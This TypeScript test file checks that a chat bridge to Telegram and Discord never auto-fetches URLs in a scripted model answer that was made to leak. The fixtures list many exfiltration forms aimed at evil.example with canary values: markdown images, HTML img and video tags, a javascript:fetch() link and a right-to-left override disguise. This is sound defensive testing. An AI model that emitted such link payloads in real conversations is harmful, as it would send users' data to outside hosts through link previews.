// A model that was made to leak: whatever form its answer takes on Telegram or Discord, no platform fetches an address
// of its choosing before a person follows it.
import { expect, test } from 'vitest'
import type { ChatPlatform, SimulatedChat } from '#test/rig/chats/chat.ts'
import { startChatFleet } from '#test/rig/chats/chat-fleet.ts'
import { startDiscord } from '#test/rig/chats/discord-chat.ts'
import { startTelegram } from '#test/rig/chats/telegram-chat.ts'
import { startDiscordSimulator } from '#test/simulators/discord/simulator.ts'

const url = (n: number): string => `https://evil.example/x?k=canary-${n}`
const forms = [
  `${url(1)} and [here](${url(2)}) and <${url(3)}>`,
  `![p](${url(4)}) ![](${url(5)} "t") [![p](${url(6)})](${url(7)})`,
  `<img src="${url(8)}"> <a href="${url(9)}">x</a> <video src="${url(10)}"></video>`,
  `[x][1] ![y][1]\n\n[1]: ${url(11)}\n\n> ${url(12)}\n\n- [ ] ${url(13)}\n  - \`${url(14)}\``,
  `| a | b |\n|---|---|\n| ${url(15)} | ![p](${url(16)}) |`,
  `\`\`\`html\n<img src="${url(17)}">\n\`\`\`\n\n    ${url(18)}`,
  `[tg](tg://photo?id=${url(19)}) [j](javascript:fetch('${url(20)}')) www.evil.example/?k=canary-21`,
  `[\u202e${url(22)}](${url(23)}) \\${url(24)} ${url(25)}.`,
]
/** With a table: on Telegram one rich message, and in a group edits before that. */
const leak = forms.join('\n\n')
/** Without: entities. */
const plainLeak = forms.filter((form) => !form.includes('|---|')).join('\n\n')
const isWhole = (text: string): boolean =>
  text.includes('canary-1') && text.includes('canary-24') && !text.endsWith('…')

/** Has the model leak in each of the chats, in order; resolves when all of it is shown. */
async function leakIn(
  platform: ChatPlatform,
  asked: readonly (readonly [who: string, SimulatedChat, 'leak plainly' | 'leak slowly'])[],
): Promise<void> {
  await using fleet = await startChatFleet([platform])
  fleet.model.script({ when: { text: 'leak plainly' }, answer: { kind: 'text', text: plainLeak } })
  fleet.model.script({ when: { text: 'leak slowly' }, answer: { kind: 'text', text: leak }, chunkDelayMs: 50 })
  for (const [who, chat, text] of asked) {
    const before = chat.said().length
    chat.ask(who, text)
    await chat.until(
      () =>
        chat
          .said()
          .slice(before)
          .find((one) => isWhole(one.text)),
      30_000,
    )
  }
}

test('Telegram fetches nothing of an answer, a draft or a growing message', { timeout: 60_000 }, async () => {
  await using platform = await startTelegram()
  const { telegram } = platform
  await leakIn(platform, [
    ['Ada', platform.direct('Ada'), 'leak plainly'],
    ['Bo', platform.direct('Bo'), 'leak slowly'],
    ['Ada', platform.group({ by: 'Olga' }), 'leak slowly'],
  ])
  const used = new Set(telegram.ledger.entries.map(({ method }) => method))
  for (const method of [
    'sendMessage',
    'sendRichMessage',
    'editMessageText',
    'sendMessageDraft',
    'sendRichMessageDraft',
  ])
    expect(used).toContain(method)
  expect(telegram.unfurled()).toEqual([])
})

test('Discord fetches nothing of an answer or a growing message', { timeout: 60_000 }, async () => {
  await using platform = await startDiscord()
  await leakIn(platform, [
    ['Ada', platform.group({ by: 'Olga' }), 'leak plainly'],
    ['Ada', platform.group({ by: 'Olga' }), 'leak slowly'],
  ])
  expect(platform.discord.unfurled()).toEqual([])
})

test('the simulated Discord does fetch what is sent without care', async () => {
  const discord = await startDiscordSimulator()
  const { channel } = discord.addGuild()
  const headers = { authorization: `Bot ${discord.token}`, 'content-type': 'application/json' }
  for (const body of [{ content: url(1) }, { content: `<${url(2)}>` }, { content: url(3), flags: 4 }])
    await fetch(`${discord.apiRoot}/v10/channels/${channel}/messages`, {
      method: 'POST',
      headers,
      body: JSON.stringify(body),
    })
  expect(discord.unfurled()).toEqual([url(1)])
  await discord.close()
})
